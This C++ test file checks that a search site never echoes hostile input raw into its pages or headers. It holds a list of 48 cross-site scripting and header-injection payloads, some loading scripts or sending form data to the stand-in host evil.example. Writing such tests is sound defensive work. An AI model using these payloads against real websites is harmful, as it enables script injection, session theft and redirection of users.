// Whatever a query says, the page keeps its shape: no new element, no new attribute, nothing echoed as it came.
#include <array>

#include "schemas/formats/url.h"
#include "tests/node/web/markup.h"
#include "tests/node/web/site_ground.h"

namespace commonplace::web {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr std::array<std::string_view, 48> payloads = {
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q>",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)\" x=\"",
    "\" style=\"position:fixed",
    "\"/><template shadowrootmode=open>",
    "{{results_heading}}",
    "{{{results_heading}}}",
    "{{> top}}<b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "&#60;script&#62;<i>",
    "%3Cscript%3E<u>",
    "\xC2\xBC<script\xC2\xBE",
    "<!--",
    "<![CDATA[<b>",
    "<?php echo 1 ?>",
    "\n<b>\r\nSet-Cookie: a=b",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
};

constexpr std::array<std::string_view, 21> parameters = {
    "q",           "subject",  "level",     "age",       "type",     "may",     "licence",
    "contributor", "language", "statement", "framework", "time_max", "origin",  "sort",
    "page",        "per_page", "explain",   "facets",    "parse",    "unknown", "utm_source"};

bool is_markup(std::string_view payload) {
  return payload.find_first_of("<\"'") != std::string_view::npos;
}

// What every reply to that address must keep.
void expect_harmless(const std::string& target, std::string_view payload, const std::string& accept) {
  const auto response = shared_site().get(target, accept);
  EXPECT_LT(response.status, 500) << target;
  for (const auto& field : response.headers) EXPECT_EQ(field.value.find_first_of("\r\n"), std::string::npos) << target;
  if (response.content_type.starts_with("text/html") && is_markup(payload)) {
    EXPECT_EQ(response.body.find(payload), std::string::npos) << target << "\n" << payload;
  }
}

// The start tags of a search page whose query finds nothing and has that text.
std::vector<std::string> shape(const std::string& parameter, std::string_view value) {
  const auto response = shared_site().get("/search?" + parameter + "=" + formats::percent_encode(value));
  EXPECT_EQ(response.status, 200);
  return skeleton(response.body);
}

TEST(Hostile, NothingIsEchoedAsItCame) {
  for (const auto parameter : parameters)
    for (const auto payload : payloads) {
      const auto query = "?" + std::string(parameter) + "=" + formats::percent_encode(payload);
      expect_harmless("/search" + query, payload, "text/html");
      expect_harmless("/api/v1/search" + query, payload, "");
    }
}

TEST(Hostile, ASearchPageHasNoTagButThoseOfATameOne) {
  std::set<std::string> tame;
  for (const auto* query : {"", "qqqqzzzz", "1", "river", "castles script img", "river qqqqzzzz", "river castle weaving puppets masks", "\"river\" \"qqqqzzzz\""})
    for (auto& tag : shape("q", query)) tame.insert(std::move(tag));
  for (const auto payload : payloads)
    for (const auto& tag : shape("q", payload)) EXPECT_TRUE(tame.contains(tag)) << tag << "\n" << payload;
}

TEST(Hostile, ABadValueMakesOneNoticeAndNothingElse) {
  for (const auto parameter : {"subject", "level", "type", "licence", "contributor", "sort", "page", "unknown"}) {
    const auto tame = shape(parameter, "qqqqzzzz");
    for (const auto payload : payloads) {
      const auto query = std::string(parameter) + "=" + formats::percent_encode(payload);
      if (shared_site().get_json("/api/v1/search?" + query).status != 400) continue;  // "<script" names a type: script
      EXPECT_EQ(shape(parameter, payload), tame) << parameter << " " << payload;
    }
  }
}

TEST(Hostile, AStatementOfNobodyKeepsTheShape) {
  const auto tame = shape("statement", "qqqqzzzz");
  for (const auto payload : payloads) EXPECT_EQ(shape("statement", payload), tame) << payload;
}

TEST(Hostile, PathsAreNotEchoedEither) {
  for (const auto* before : {"/r/", "/by/", "/curriculum/", "/curriculum/river-learning/", "/media/", "/assets/",
                             "/sitemap/", "/nowhere/", "/api/v1/resources/", "/api/v1/frameworks/", "/api/v1/nowhere/"})
    for (const auto payload : payloads) {
      const auto target = before + formats::percent_encode(payload);
      EXPECT_EQ(shared_site().get(target).status, 404) << target;
      expect_harmless(target, payload, "text/html");
      expect_harmless(target, payload, "application/json");
    }
}

TEST(Hostile, TitlesNamesAndTextsOfRecordsAreTextOnEveryPage) {
  auto& site = shared_site();
  std::vector<std::string> pages = {"/",
                                    "/search?q=",
                                    "/search?q=castles",
                                    "/organisations",
                                    "/by/glanafon",
                                    "/by/oriel-wy",
                                    "/curriculum",
                                    "/curriculum/river-learning",
                                    "/curriculum/river-learning/RV.1"};
  for (const auto& id : site.ids()) pages.push_back("/r/" + id);
  for (const auto& page : pages) {
    const auto response = site.get(page);
    ASSERT_EQ(response.status, 200) << page;
    for (const auto* raw : {"<script>alert", "<b>bold", "<River>", "<i>here", "<em>people", "<Framework>", "<Node>"})
      EXPECT_THAT(response.body, Not(HasSubstr(raw))) << page;
  }
}

TEST(Hostile, NulAndControlCharactersDoNotReachAPage) {
  for (const auto* text : {"a%00b", "a%01b", "a%1bb", "a%7fb", "a%e2%80%aeb", "%ef%bf%be"}) {
    const auto response = shared_site().get("/search?q=" + std::string(text));
    EXPECT_EQ(response.status, 200) << text;
    EXPECT_EQ(response.body.find('\0'), std::string::npos) << text;
    EXPECT_EQ(response.body.find('\x1b'), std::string::npos) << text;
  }
}

}  // namespace
}  // namespace commonplace::web
